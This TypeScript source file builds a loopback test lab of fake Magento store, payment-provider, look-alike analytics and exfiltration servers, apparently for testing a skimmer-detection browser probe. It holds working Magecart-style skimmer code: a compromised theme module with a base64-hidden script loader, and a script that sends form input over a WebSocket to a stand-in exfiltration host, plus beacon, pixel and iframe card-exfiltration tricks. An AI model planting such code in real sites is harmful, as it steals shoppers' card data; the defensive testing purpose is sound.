import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer, type Server } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import type { Target } from '../../core/target.js';
import { makeTarget } from '../../core/targets.js';
import { HOST_RULES_ENV } from '../../probes/browser/chromium.js';
import { makeLabCertificate } from './pki.js';

/**
 * Payment-page lab (issue 12): a Magento-like store whose pages load their modules the
 * RequireJS way after load, a payment provider's script with SRI from a second origin, and a
 * compromised copy of the store — same origin, other address — whose theme module injects,
 * at run time only, a script from a look-alike analytics origin that opens a WebSocket to an
 * exfiltration origin. All HTTPS with one lab certificate, all on loopback: the browser maps
 * the lab's names to 127.0.0.x and every other name to NOTFOUND (MAGEPROBE_BROWSER_HOST_RULES,
 * set while the lab is open), so it can reach nothing but the lab.
 */
export interface PaymentLab {
  readonly clean: Target;
  readonly compromised: Target;
  readonly origins: { readonly store: string; readonly psp: string; readonly lookalike: string; readonly exfil: string };
  /** Every request any lab server received, as "METHOD origin path" (WebSocket upgrades say so). */
  readonly seen: readonly string[];
  /** Chromium host resolver rules for the lab's third-party names and NOTFOUND for the rest. */
  readonly hostRules: readonly string[];
  /** The clean (or compromised) store with other payment pages: the lab's test pages under /lab/. */
  pages(paths: readonly string[], store?: 'clean' | 'compromised'): Target;
  close(): Promise<void>;
}

export const STORE_HOST = 'shop.lab.test';
export const PSP_HOST = 'js.psp-pay.test';
/** A capital I for an l: "googIe" reads as google, the URL parser makes it googie. */
export const LOOKALIKE_HOST = 'www.googIe-analytics.test';
export const EXFIL_HOST = 'collect.cdn-metrics.test';

const ADDRESS = { clean: '127.0.0.41', compromised: '127.0.0.42', psp: '127.0.0.43', lookalike: '127.0.0.44', exfil: '127.0.0.45' } as const;
const STATIC = '/static/version1700000000/frontend/Magento/luma/en_US/';
const PSP_PATH = '/v3/checkout.js';
/** The provider shipped a new file the store's integrity attribute does not pin. */
const PSP_CHANGED_PATH = '/v3/checkout-next.js';

const PSP_SCRIPT = `window.PspPay = { version: '3.1.0', mount: function (selector) { var el = document.querySelector(selector); if (el) el.setAttribute('data-psp', 'mounted'); return !!el; } };\n`;
const PSP_CHANGED_SCRIPT = `${PSP_SCRIPT}window.PspPay.version = '3.2.0';\n`;
/** 2 MB of script: a comment line repeated, then one statement (test/scripts/browser-probe.test.ts). */
export const BUNDLE = `${'/* merged checkout modules, minified */\n'.repeat(52_000)}window.__bundle = 1;\n`;
const sri = (body: string) => `sha384-${createHash('sha384').update(body).digest('base64')}`;

/** A small RequireJS: require() waits for load, then injects one <script> per module it lacks. */
const REQUIRE_JS = `(function () {
  var config = { baseUrl: '${STATIC}' };
  var modules = {}, pending = {};
  function load(name) {
    if (pending[name]) return;
    pending[name] = [];
    var s = document.createElement('script');
    s.src = config.baseUrl + name + '.js';
    s.async = true;
    document.head.appendChild(s);
  }
  function when(name, cb) { if (modules[name]) return cb(); load(name); pending[name].push(cb); }
  function whenAll(deps, done) {
    var left = deps.length;
    if (!left) return done([]);
    deps.forEach(function (d) { when(d, function () { if (--left === 0) done(deps.map(function (x) { return modules[x].value; })); }); });
  }
  window.define = function (name, deps, factory) {
    whenAll(deps, function (values) {
      modules[name] = { value: factory.apply(null, values) };
      var cbs = pending[name] || [];
      delete pending[name];
      cbs.forEach(function (cb) { cb(); });
    });
  };
  window.require = function (deps, cb) {
    var go = function () { whenAll(deps, function (values) { if (cb) cb.apply(null, values); }); };
    if (document.readyState === 'complete') go(); else window.addEventListener('load', go);
  };
  window.require.config = function (c) { for (var k in c) config[k] = c[k]; };
})();
`;

const THEME = `define('Magento_Theme/js/theme', [], function () {
  return { init: function () { document.documentElement.className += ' js-ready'; } };
});
`;

/** The compromised theme: the loader's URL is base64, so no static scan of page or module finds the origin. */
const compromisedTheme = (skimmerUrl: string) => `define('Magento_Theme/js/theme', [], function () {
  if (/checkout/.test(location.pathname)) setTimeout(function () {
    var s = document.createElement('script');
    s.src = atob('${Buffer.from(skimmerUrl).toString('base64')}');
    document.head.appendChild(s);
  }, 150);
  return { init: function () { document.documentElement.className += ' js-ready'; } };
});
`;

const MODULES: Readonly<Record<string, string>> = {
  'Magento_Customer/js/customer-data': `define('Magento_Customer/js/customer-data', [], function () {
  return { reload: function (sections) { return fetch('/customer/section/load/?sections=' + sections.join(','), { credentials: 'same-origin' }).then(function (r) { return r.json(); }); } };
});
`,
  'Magento_Checkout/js/model/quote': `define('Magento_Checkout/js/model/quote', [], function () {
  return { total: 59.0, currency: 'EUR', cartId: 'lab-cart-1' };
});
`,
  // Knockout-style template compiled with new Function (a dynamic script), and Magento's
  // shipping estimate, a POST the browser probe must refuse to send.
  'Magento_Checkout/js/view/payment': `define('Magento_Checkout/js/view/payment', ['Magento_Checkout/js/model/quote'], function (quote) {
  var render = new Function('data', 'return "Order total: " + data.total.toFixed(2) + " " + data.currency;');
  var el = document.getElementById('order-total');
  if (el) el.textContent = render(quote);
  if (window.PspPay) window.PspPay.mount('#psp-card');
  var xhr = new XMLHttpRequest();
  xhr.open('POST', '/rest/default/V1/guest-carts/' + quote.cartId + '/estimate-shipping-methods');
  xhr.setRequestHeader('content-type', 'application/json');
  xhr.send(JSON.stringify({ address: { country_id: 'NL' } }));
  return { rendered: true };
});
`,
};

const skimmer = (exfilOrigin: string) => `(function () {
  var ws = new WebSocket('${exfilOrigin.replace(/^https/, 'wss')}/c');
  document.addEventListener('input', function (e) {
    if (ws.readyState === 1) ws.send(JSON.stringify({ f: e.target.name, v: e.target.value, p: location.pathname }));
  }, true);
})();
`;

interface Origins {
  store: string;
  psp: string;
  lookalike: string;
  exfil: string;
}

function storeHeaders(o: Origins): Record<string, string> {
  return {
    'content-type': 'text/html; charset=UTF-8',
    // Magento's default: script-src only reported, not enforced, so an injected script still runs.
    'content-security-policy-report-only': `default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' ${o.psp}; connect-src 'self'; report-uri /csp_reporter/`,
    'content-security-policy': "frame-ancestors 'self'; upgrade-insecure-requests",
    'x-frame-options': 'SAMEORIGIN',
    'strict-transport-security': 'max-age=31536000',
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'strict-origin-when-cross-origin',
    'permissions-policy': `payment=(self "${o.psp}")`,
    'x-xss-protection': '1; mode=block',
  };
}

function page(title: string, body: string, modules: readonly string[], extraHead = ''): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${title} - Lab Store</title>
<script src="${STATIC}requirejs/require.js"></script>
<script src="${STATIC}requirejs-config.js"></script>
${extraHead}<script>
require(${JSON.stringify(['Magento_Theme/js/theme', 'Magento_Customer/js/customer-data', ...modules])}, function (theme, customerData) {
  theme.init();
  customerData.reload(['cart', 'customer']);
});
</script>
</head><body><header><a href="/">Lab Store</a> <a href="/checkout/cart/">Cart</a></header>
<main>${body}</main>
<footer><a href="https://www.example.test/about">About us</a></footer></body></html>
`;
}

/**
 * Every way a script or a connection comes about at run time, each tagged with a marker the
 * test looks for: eval, an injected inline element, an eval disguised by //# sourceURL, a
 * data: URL script; a debugger statement; a beacon, an EventSource, an image pixel, a fetch.
 */
const tricks = (o: Origins) => `
eval('window.__a = 1; /*eval-marker*/');
var s = document.createElement('script'); s.textContent = 'window.__b = 2; /*injected-inline-marker*/'; document.head.appendChild(s);
eval('window.__c = 3; /*disguised-marker*/\\n//# sourceURL=https://cdn.trusted.test/jquery.min.js');
eval('window.__e = 5; fetch("${o.psp}/v3/ext.json", { mode: "no-cors" }); /*extension-marker*/\\n//# sourceURL=chrome-extension://abcdefghijklmnop/skim.js');
var d = document.createElement('script'); d.src = 'data:text/javascript,window.__d%3D4%3B%2F*data-marker*%2F'; document.head.appendChild(d);
debugger;
navigator.sendBeacon('${o.exfil}/b', 'card=4111');
new EventSource('/lab/events');
new Image().src = '${o.exfil}/p.gif?c=4111';
fetch('${o.psp}/v3/config.json', { mode: 'no-cors' });
`;

const pspTag = (o: Origins, path: string, pinned: string) => `<script src="${o.psp}${path}" integrity="${pinned}" crossorigin="anonymous"></script>\n`;

function storeHandler(o: Origins, compromised: boolean): (req: IncomingMessage, res: ServerResponse) => void {
  const pages: Readonly<Record<string, () => string>> = {
    '/': () => page('Home', '<h1>Welcome</h1><p>Spring collection.</p>', []),
    '/checkout/cart/': () => page('Shopping Cart', '<h1>Shopping Cart</h1><p>1 item</p><a href="/checkout/">Proceed to Checkout</a>', []),
    '/checkout/index/': () =>
      page(
        'Checkout',
        '<h1>Checkout</h1><p id="order-total"></p><form id="co-payment-form" action="/checkout/onepage/saveOrder/" method="post"><div id="psp-card"></div><input name="payment[cc_owner]"><input name="payment[cc_number]" autocomplete="cc-number"><button>Place Order</button></form>',
        ['Magento_Checkout/js/view/payment'],
        pspTag(o, PSP_PATH, sri(PSP_SCRIPT)),
      ),
    '/customer/account/login/': () =>
      page(
        'Customer Login',
        '<h1>Customer Login</h1><form action="/customer/account/loginPost/" method="post"><input name="login[username]"><input type="password" name="login[password]"><button>Sign In</button></form>',
        [],
      ),
    '/lab/psp-changed/': () => page('Checkout', '<h1>Checkout</h1>', [], pspTag(o, PSP_CHANGED_PATH, sri(PSP_SCRIPT))),
    // More run-time scripts than the recorder keeps: the visit must say so.
    '/lab/many-scripts/': () =>
      `<!doctype html><html><head><title>Checkout</title><script>for (var i = 0; i < 1010; i++) eval('window.__n' + i + ' = ' + i);</script></head><body><p>many</p></body></html>`,
    // No valid SRI metadata (W3C SRI §3.3.3): Chromium runs the PSP script unchecked.
    '/lab/psp-no-metadata/': () => page('Checkout', '<h1>Checkout</h1>', [], pspTag(o, PSP_PATH, 'md5-Zm9v sha1-YmFy not-a-hash')),
    // A socket that sends as soon as it opens (the checkout skimmer waits for input, which never comes).
    '/lab/ws-send/': () =>
      `<!doctype html><html><head><title>Checkout</title><script>var ws = new WebSocket('${o.exfil.replace(/^https/, 'wss')}/c'); ws.onopen = function () { ws.send('card=4111'); };</script></head><body><p>ws</p></body></html>`,
    // A popup off the target, and a cross-site (out-of-process) iframe that posts.
    '/lab/escape/': () =>
      `<!doctype html><html><head><title>Checkout</title><script>window.open('${o.exfil}/popup?c=4111');</script></head><body><iframe src="${o.psp}/frame.html?to=${encodeURIComponent(`${o.exfil}/f`)}"></iframe></body></html>`,
    // A bundle of 2 MB, as a checkout's merged JavaScript can be.
    '/lab/big-script/': () => page('Checkout', '<h1>Checkout</h1>', [], `<script src="/lab/bundle.js"></script>\n`),
    // A script whose connection the server drops: the page loads, the script never arrives.
    '/lab/script-reset/': () => page('Checkout', '<h1>Checkout</h1>', [], `<script src="/lab/reset.js"></script>\n`),
    // A script cut short: the connection ends before the Content-Length it announced.
    '/lab/script-truncated/': () => page('Checkout', '<h1>Checkout</h1>', [], `<script src="/lab/truncated.js"></script>\n`),
    '/lab/tricks/': () => `<!doctype html><html><head><title>Tricks</title><script>${tricks(o)}</script></head><body><p>tricks</p></body></html>`,
  };
  const scripts: Readonly<Record<string, () => string>> = {
    [`${STATIC}requirejs/require.js`]: () => REQUIRE_JS,
    [`${STATIC}requirejs-config.js`]: () => `require.config({ baseUrl: '${STATIC}' });\n`,
    [`${STATIC}Magento_Theme/js/theme.js`]: () => (compromised ? compromisedTheme(`${o.lookalike.replace('googie', 'googIe')}/analytics.js`) : THEME),
    ...Object.fromEntries(Object.entries(MODULES).map(([name, text]) => [`${STATIC}${name}.js`, () => text])),
  };
  return (req, res) => {
    const path = new URL(req.url ?? '/', o.store).pathname;
    const html = pages[path];
    const js = scripts[path];
    if (html) return void res.writeHead(200, storeHeaders(o)).end(html());
    if (js) return void res.writeHead(200, { 'content-type': 'application/javascript', 'x-content-type-options': 'nosniff' }).end(js());
    if (path === '/checkout/') return void res.writeHead(302, { location: '/checkout/index/', ...storeHeaders(o) }).end();
    if (path === '/customer/section/load/')
      return void res.writeHead(200, { 'content-type': 'application/json' }).end('{"cart":{"summary_count":1},"customer":{}}');
    // An event stream that stays open: it must not keep the page from settling.
    if (path === '/lab/events') return void res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' }).write('data: hello\n\n');
    if (path === '/lab/reset.js') return void req.socket.destroy();
    if (path === '/lab/truncated.js') {
      res.writeHead(200, { 'content-type': 'application/javascript', 'content-length': '4096' }).write('var cut = 1;\n');
      return void setTimeout(() => req.socket.destroy(), 50);
    }
    if (path === '/lab/bundle.js') return void res.writeHead(200, { 'content-type': 'application/javascript' }).end(BUNDLE);
    if (path === '/lab/moved/') return void res.writeHead(302, { location: 'https://www.shop-elsewhere.test/checkout/' }).end();
    if (path === '/lab/maintenance/') {
      return void res
        .writeHead(503, { 'retry-after': '3600', 'content-type': 'text/html' })
        .end('<!doctype html><html><head><title>Service Temporarily Unavailable</title></head><body><h1>Service Temporarily Unavailable</h1></body></html>');
    }
    // Headers and the start of the page, then nothing: the load event never comes.
    if (path === '/lab/never-loads/')
      return void res.writeHead(200, storeHeaders(o)).write('<!doctype html><html><head><title>Checkout</title></head><body><p>Loading');
    res
      .writeHead(404, { 'content-type': 'text/html' })
      .end('<!doctype html><html><head><title>404 Not Found</title></head><body><h1>Whoops, our bad...</h1></body></html>');
  };
}

const pspHandler = (req: IncomingMessage, res: ServerResponse) => {
  const path = new URL(req.url ?? '/', 'https://x').pathname;
  if (path === '/frame.html')
    return void res
      .writeHead(200, { 'content-type': 'text/html' })
      .end(
        "<!doctype html><script>var to = new URLSearchParams(location.search).get('to'); new Image().src = to + '?ran=1'; fetch(to, { method: 'POST', mode: 'no-cors', body: 'card=4111' });</script>",
      );
  const body = path === PSP_PATH ? PSP_SCRIPT : path === PSP_CHANGED_PATH ? PSP_CHANGED_SCRIPT : undefined;
  if (body === undefined) return void res.writeHead(404).end();
  // CORS, so the store's crossorigin="anonymous" integrity check can run (Fetch §3.2, SRI §3.3.3).
  res.writeHead(200, { 'content-type': 'application/javascript', 'access-control-allow-origin': '*' }).end(body);
};

/** RFC 6455 §4.2.2: the server's handshake answer; frames after it are passed to onData. */
function acceptWebSocket(req: IncomingMessage, socket: Socket, onData: (chunk: Buffer) => void): void {
  const key = String(req.headers['sec-websocket-key'] ?? '');
  const accept = createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC11B85`).digest('base64');
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
  socket.on('data', onData).on('error', () => undefined);
}

function listen(server: Server, address: string, port = 0): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, address, () => {
      server.off('error', reject);
      resolve((server.address() as AddressInfo).port);
    });
  });
}

export async function startPaymentLab(): Promise<PaymentLab> {
  const cert = await makeLabCertificate([STORE_HOST, PSP_HOST, LOOKALIKE_HOST.toLowerCase(), EXFIL_HOST]);
  const tls = { cert: readFileSync(cert.certFile), key: readFileSync(cert.keyFile) };
  const seen: string[] = [];
  const sockets = new Set<Socket>();
  const servers: Server[] = [];
  const serve = (name: string, handler: (req: IncomingMessage, res: ServerResponse) => void) => {
    const server = createServer(tls, (req, res) => {
      seen.push(`${req.method} ${name} ${req.url}`);
      req.resume();
      handler(req, res);
    });
    server.on('connection', (s: Socket) => sockets.add(s.on('close', () => sockets.delete(s))));
    servers.push(server);
    return server;
  };
  // Ports first (the pages name every origin), handlers once the origins are known.
  const o = {} as Origins;
  const handlers: Record<string, (req: IncomingMessage, res: ServerResponse) => void> = {};
  const route = (key: string) => (req: IncomingMessage, res: ServerResponse) => handlers[key]!(req, res);
  const clean = serve('clean', route('clean'));
  const compromised = serve('compromised', route('compromised'));
  const psp = serve('psp', pspHandler);
  const lookalike = serve('lookalike', route('lookalike'));
  const exfil = serve('exfil', (_req, res) => void res.writeHead(404).end());
  exfil.on('upgrade', (req: IncomingMessage, socket: Socket) => {
    seen.push(`${req.method} exfil ${req.url} (websocket)`);
    sockets.add(socket);
    // RFC 6455 §5.2: opcode 1 (text) or 2 (binary) in the first byte is a data frame; a close frame (8) is not.
    acceptWebSocket(req, socket, (chunk) => {
      if ([1, 2].includes(chunk[0]! & 0x0f)) seen.push(`WS-DATA exfil ${req.url}`);
    });
  });
  try {
    const storePort = await listen(clean, ADDRESS.clean);
    // The compromised copy answers for the very same origin, from another address.
    await listen(compromised, ADDRESS.compromised, storePort);
    o.store = `https://${STORE_HOST}:${storePort}`;
    o.psp = `https://${PSP_HOST}:${await listen(psp, ADDRESS.psp)}`;
    o.lookalike = `https://${LOOKALIKE_HOST.toLowerCase()}:${await listen(lookalike, ADDRESS.lookalike)}`;
    o.exfil = `https://${EXFIL_HOST}:${await listen(exfil, ADDRESS.exfil)}`;
  } catch (e) {
    for (const s of servers) s.close();
    throw e;
  }
  handlers.clean = storeHandler(o, false);
  handlers.compromised = storeHandler(o, true);
  handlers.lookalike = (req, res) =>
    req.url === '/analytics.js' ? void res.writeHead(200, { 'content-type': 'application/javascript' }).end(skimmer(o.exfil)) : void res.writeHead(404).end();

  const hostRules = [
    `MAP ${PSP_HOST} ${ADDRESS.psp}`,
    `MAP ${LOOKALIKE_HOST.toLowerCase()} ${ADDRESS.lookalike}`,
    `MAP ${EXFIL_HOST} ${ADDRESS.exfil}`,
    // Everything else, the store's name included unless a target maps it to its address.
    'MAP * ~NOTFOUND',
  ];
  const ownRules = hostRules.join(', ');
  process.env[HOST_RULES_ENV] = ownRules;
  const target = (store: 'clean' | 'compromised', paymentPages?: readonly string[]) =>
    makeTarget({
      name: `payment-lab-${store}`,
      url: `${o.store}/`,
      address: ADDRESS[store],
      caFile: cert.caFile,
      // Page limit 16 s (twice requestMs): room for a loaded CI host, still short for the never-loading page.
      timeouts: { connectMs: 2_000, requestMs: 8_000 },
      paymentPages: [...(paymentPages ?? ['/', '/checkout/cart/', '/checkout/', '/customer/account/login/'])],
    });
  return {
    clean: target('clean'),
    compromised: target('compromised'),
    origins: { store: o.store, psp: o.psp, lookalike: o.lookalike, exfil: o.exfil },
    seen,
    hostRules,
    pages: (paths, store = 'clean') => target(store, paths),
    close: async () => {
      if (process.env[HOST_RULES_ENV] === ownRules) delete process.env[HOST_RULES_ENV];
      for (const s of sockets) s.destroy();
      await Promise.all(
        servers.map(
          (s) =>
            new Promise<void>((r) => {
              s.closeAllConnections();
              s.close(() => r());
            }),
        ),
      );
    },
  };
}
